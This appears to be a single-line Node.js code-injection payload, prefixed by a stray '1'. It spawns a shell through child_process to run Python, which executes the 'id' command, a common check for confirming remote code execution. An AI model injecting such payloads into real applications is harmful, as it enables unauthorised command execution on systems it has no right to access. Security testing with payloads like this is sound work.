1require('child_process').exec('python3 -c "import os; os.system(\'id\')"')
